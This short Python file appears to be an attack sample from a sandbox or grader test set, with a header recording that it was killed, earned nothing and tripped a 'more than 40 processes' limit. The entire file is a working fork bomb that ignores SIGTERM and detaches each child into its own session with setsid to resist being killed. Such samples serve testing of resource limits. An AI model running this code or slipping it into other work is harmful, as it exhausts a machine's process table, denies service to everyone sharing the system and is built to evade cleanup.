# attack: 3
# does: forks without end, each child in a session of its own, ignoring signals
# run: killed
# earns: 0
# says: more than 40 processes
import os
import signal
import time

signal.signal(signal.SIGTERM, signal.SIG_IGN)
while True:
    try:
        if os.fork() == 0:
            os.setsid()
    except OSError:
        time.sleep(0.01)
